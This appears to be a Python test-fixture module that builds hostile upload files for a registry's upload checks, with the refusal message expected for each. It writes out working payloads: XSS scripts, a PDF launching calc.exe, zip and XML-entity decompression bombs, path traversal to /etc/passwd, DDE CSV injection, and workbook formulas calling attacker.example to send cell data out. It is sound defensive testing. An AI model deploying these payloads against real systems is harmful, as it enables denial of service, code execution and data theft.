"""Files as attackers and accidents make them, each made here in code."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import openpyxl
from pikepdf import Encryption, Name
from PIL import Image

from registry.reports import fee_template
from registry.uploads.refusals import REFUSALS
from tests.uploads import made

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(document.cookie)</script>"
WRONG_KIND = "This kind of file is not taken here"
FORMULA = "of this CSV file holds a formula"


@dataclass(frozen=True)
class Hostile:
    """A file, the name under which it comes, and a part of what the register answers."""

    filename: str
    make: Callable[[], bytes]
    said: str


def _refused(filename: str, word: str, make: Callable[[], bytes]) -> Hostile:
    return Hostile(filename, make, str(REFUSALS[word]))


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1, the first of them its root."""
    body, places = b"%PDF-1.7\n", []
    for number, written in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, written)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    index = b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    end = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, len(body))
    return body + index + end


def pages(number: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (place + 3) for place in range(number))
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    tree = b"<</Type/Pages/Count %d/Kids[%s]>>" % (number, kids)
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", tree, *[leaf] * number)


def endless_page_tree() -> bytes:
    """Whose pages are their own parents."""
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 2/Kids[3 0 R 3 0 R]>>",
        b"<</Type/Pages/Count 1/Parent 2 0 R/Kids[2 0 R]>>",
    )


def deep_page_tree(levels: int = 60_000) -> bytes:
    kids = (
        b"<</Type/Pages/Count 1/Parent %d 0 R/Kids[%d 0 R]>>" % (number, number + 2)
        for number in range(1, levels)
    )
    leaf = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 9 9]>>" % levels
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", *kids, leaf)


def deep_array(levels: int = 400_000) -> bytes:
    nested = b"[" * levels + b"]" * levels
    tree = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Deep %s>>" % nested
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", tree, page)


def object_stream_bomb() -> bytes:
    """An object stream of some kilobytes that unpacks to a gigabyte."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 20_000_000) for _ in range(50)) + packer.flush()
    twice = zlib.compress(packed, 9)
    head = b"<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>" % len(twice)
    bomb = b"%s\nstream\n%s\nendstream" % (head, twice)
    rows = b"".join(
        struct.pack("!BIH", *row)
        for row in ((0, 0, 65535), (2, 2, 0), (1, 9, 0), (1, len(bomb) + 30, 0))
    )
    body = b"%%PDF-1.7\n2 0 obj\n%s\nendobj\n" % bomb
    index = (
        b"3 0 obj\n<</Type/XRef/Size 4/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n%s\nendstream\n"
        b"endobj\nstartxref\n%d\n%%%%EOF\n" % (len(rows), rows, len(body))
    )
    return body + index


def huge_picture() -> bytes:
    """A PNG of a few bytes that says it is 60,000 pixels wide and high."""
    header = b"IHDR" + struct.pack("!IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
    data = b"IDAT" + zlib.compress(b"\0" * 60_001)
    return b"\x89PNG\r\n\x1a\n" + b"".join(map(_chunk, (header, data, b"IEND")))


def _chunk(content: bytes) -> bytes:
    return struct.pack("!I", len(content) - 4) + content + struct.pack("!I", zlib.crc32(content))


def moving_picture() -> bytes:
    file = io.BytesIO()
    frames = [Image.new("L", (8, 8), shade) for shade in (0, 255)]
    frames[0].save(file, "PNG", save_all=True, append_images=frames[1:])
    return file.getvalue()


def picture_with_a_page_in_it() -> bytes:
    """A JPEG in whose EXIF data a page of the web waits."""
    file, picture = io.BytesIO(), Image.new("L", (8, 8))
    exif = picture.getexif()
    exif[0x010E] = SCRIPT.decode()
    picture.save(file, "JPEG", exif=exif)
    return file.getvalue()


def archive_with(info: zipfile.ZipInfo | str, content: bytes = b"x") -> bytes:
    """A workbook to which an odd entry is added."""
    file = io.BytesIO(made.workbook())
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(info, content)
    return file.getvalue()


def leading_elsewhere() -> bytes:
    info = zipfile.ZipInfo("xl/theme.xml")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return archive_with(info, b"/etc/passwd")


def calling_workbook() -> bytes:
    file, book = io.BytesIO(), openpyxl.Workbook()
    book.active["A1"] = '=WEBSERVICE("http://attacker.example/?"&B1)'
    book.save(file)
    return file.getvalue()


def many_cells() -> bytes:
    """A workbook of some kilobytes with ten million cells."""
    row = b"<row>" + b"<c/>" * 10_000 + b"</row>"
    sheet = b"<worksheet><sheetData>" + row * 1000 + b"</sheetData></worksheet>"
    return made.workbook(xl__worksheets__sheet1=sheet)


def fee_table_with_a_formula() -> bytes:
    """The register's own template, a formula in place of the first amount."""
    file = io.BytesIO()
    book = openpyxl.load_workbook(io.BytesIO(fee_template.write(("NPL-manufacturing",), "en")))
    rows = book.worksheets[0].iter_rows(max_row=9)
    amount = next(c for row in rows for c in row if str(c.value).startswith("Amount"))
    amount.offset(row=1).value = '=HYPERLINK("http://attacker.example","1200")'
    book.save(file)
    return file.getvalue()


def entity_bomb() -> bytes:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<?xml version="1.0"?><!DOCTYPE b [<!ENTITY l0 "ha">{levels}]><b>&l9;</b>'
    return made.workbook(xl__sharedStrings=bomb.encode())


def packed(**members: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def bombs_in_an_archive() -> bytes:
    """Archives in an archive, each of which unpacks to far more."""
    inner = packed(**{f"bomb{n}": b"\0" * 4_000_000 for n in range(4)})
    return packed(**{f"lib{n}.zip": inner for n in range(16)})


def beginning_as_pdf() -> bytes:
    """A workbook whose first entry makes readers of PDFs take it for theirs."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(made.workbook())) as old,
        zipfile.ZipFile(file, "w") as new,
    ):
        new.writestr("%PDF-1.7 %", b"")
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return file.getvalue()


EVIDENCE = {
    "a program": Hostile("report.pdf", lambda: b"MZ\x90\0" + b"\0" * 4000, WRONG_KIND),
    "nothing": _refused("empty.pdf", "empty", lambda: b""),
    "half a PDF": _refused("half.pdf", "damaged", lambda: made.pdf(*["page"] * 9)[:-900]),
    "a locked PDF": _refused(
        "a.pdf", "encrypted", lambda: made.pdf(encryption=Encryption(user="1", owner="2"))
    ),
    "10,000 pages": _refused("long.pdf", "too_long", lambda: pages(10_000)),
    "a PDF bomb": _refused("bomb.pdf", "too_heavy", made.pdf_bomb),
    "a bomb of objects": _refused("objects.pdf", "damaged", object_stream_bomb),
    "pages without end": _refused("endless.pdf", "damaged", endless_page_tree),
    "a deep tree of pages": _refused("deep.pdf", "damaged", deep_page_tree),
    "a deep array": _refused("array.pdf", "damaged", deep_array),
    "a PDF with a script": _refused(
        "js.pdf", "script", lambda: made.pdf(change=made.opening_with(S=Name.JavaScript, JS="a()"))
    ),
    "a PDF that starts a program": _refused(
        "go.pdf", "action", lambda: made.pdf(change=made.opening_with(S=Name.Launch, F="calc.exe"))
    ),
    "a PDF with a file in it": _refused(
        "with.pdf", "attachment", lambda: made.pdf(change=made.attaching)
    ),
    "a PDF that is an archive": _refused(
        "zip.pdf", "two_kinds", lambda: made.pdf() + made.archive(a=b"1")
    ),
    "a PDF that is a page": _refused("html.pdf", "two_kinds", lambda: made.pdf() + SCRIPT),
    "a picture that is a page": _refused(
        "html.png", "two_kinds", lambda: made.picture("PNG") + SCRIPT
    ),
    "a GIF that is a page": Hostile("x.png", lambda: b"GIF89a/*" + SCRIPT, WRONG_KIND),
    "a drawing with a script": Hostile(
        "logo.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT, WRONG_KIND
    ),
    "a huge picture": _refused("huge.png", "too_heavy", huge_picture),
    "a moving picture": _refused("moving.png", "moving", moving_picture),
    "a picture with a page in it": _refused("x.jpg", "two_kinds", picture_with_a_page_in_it),
    "half a picture": _refused("half.png", "damaged", lambda: made.picture("PNG")[:40]),
    "a workbook bomb": _refused(
        "bomb.xlsx", "too_heavy", lambda: made.workbook(xl__media__zeros=b"\0" * 400_000_000)
    ),
    "bombs in an archive": _refused("42.xlsx", "no_workbook", bombs_in_an_archive),
    "an archive in a workbook": _refused(
        "nested.xlsx", "linked", lambda: made.workbook(xl__media__inner=bombs_in_an_archive())
    ),
    "a workbook with macros": _refused(
        "macros.xlsx", "macros", lambda: made.workbook(xl__vbaProject=b"1")
    ),
    "a workbook that talks to programs": _refused(
        "dde.xlsx",
        "linked",
        lambda: made.workbook(xl__externalLinks__externalLink1=b"<ddeLink ddeService='cmd'/>"),
    ),
    "a workbook with an object": _refused(
        "ole.xlsx", "linked", lambda: made.workbook(xl__embeddings__oleObject1=b"\xd0\xcf\x11\xe0")
    ),
    "a workbook that fetches": _refused("fetch.xlsx", "linked", calling_workbook),
    "entities without end": _refused("entities.xlsx", "damaged", entity_bomb),
    "a part outside": _refused("slip.xlsx", "damaged", lambda: archive_with("../../etc/passwd")),
    "a part that leads elsewhere": _refused("link.xlsx", "damaged", leading_elsewhere),
    "a locked workbook": _refused(
        "locked.xlsx", "locked", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000
    ),
    "a PDF in a workbook": _refused("both.xlsx", "two_kinds", beginning_as_pdf),
    "formulas in a CSV": Hostile(
        "dde.csv", lambda: b"category,amount\nMED,\"=cmd|' /C calc'!A0\"\n", f"Row 2 {FORMULA}"
    ),
    "a sum in a CSV": Hostile("plus.csv", lambda: b"a;b\n1;2\n3;@SUM(1)\n", f"Row 3 {FORMULA}"),
    "a program as CSV": _refused("a.csv", "not_text", lambda: b"a,b\0\x01\n" * 500),
    "a page as CSV": _refused("page.csv", "not_text", lambda: b"<html>" + SCRIPT),
}

FEE_TABLES = {
    "millions of cells": _refused("cells.xlsx", "too_many_cells", many_cells),
    "formulas in the CSV": Hostile(
        "fees.csv", lambda: b"Corridor,Cost\n=HYPERLINK(1),MED\n", f"Row 2 {FORMULA}"
    ),
    "a formula in the workbook": Hostile(
        "fees.xlsx", fee_table_with_a_formula, "Type the value itself in place of the formula"
    ),
    "a picture for a table": Hostile("fees.xlsx", lambda: made.picture("PNG"), WRONG_KIND),
}
